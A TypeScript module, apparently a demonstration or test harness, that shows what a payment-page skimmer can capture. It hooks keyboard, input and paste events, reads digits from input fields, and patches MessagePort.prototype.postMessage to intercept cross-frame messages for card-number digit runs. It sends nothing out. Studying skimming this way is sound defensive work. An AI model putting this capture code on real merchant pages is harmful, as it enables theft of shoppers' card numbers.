/** What a skimmer does on a merchant's page. It sends nothing: it shows what it could have sent. */

const KINDS = ["keydown", "keyup", "beforeinput", "input", "change", "paste", "focusin", "pointerdown"];

/** Listens from now on, and tells the digits that it has and how many messages it has heard. */
export function startSkimmer(tell: (digits: string, messages: number) => void): void {
  let typed = "";
  let longest = "";
  let messages = 0;
  const keep = (text: string): void => {
    const digits = text.replace(/\D/g, "");
    if (digits.length > longest.length) longest = digits;
  };
  const say = (): void => tell(typed.length >= longest.length ? typed : longest, messages);
  const onEvent = (event: Event): void => {
    if (event instanceof KeyboardEvent && event.type === "keydown" && /^\d$/.test(event.key))
      typed += event.key;
    for (const target of event.composedPath()) {
      if (target instanceof HTMLInputElement && target.type !== "checkbox") keep(target.value);
    }
    say();
  };
  for (const kind of KINDS) window.addEventListener(kind, onEvent, true);
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (this: MessagePort, ...all: [unknown]) {
    // The port's other direction.
    this.addEventListener("message", onMessage);
    return postMessage.apply(this, all);
  };
  const onMessage = ({ data }: MessageEvent): void => {
    messages++;
    // A token's message has its times, its id and, as a receipt does, the last four digits.
    const isToken = String(data).includes('"type":"token"');
    // The longest run of digits in any other, whatever it is called there.
    for (const run of (!isToken && String(data).match(/\d{4,}/g)) || []) keep(run);
    say();
  };
  window.addEventListener("message", onMessage, true);
}
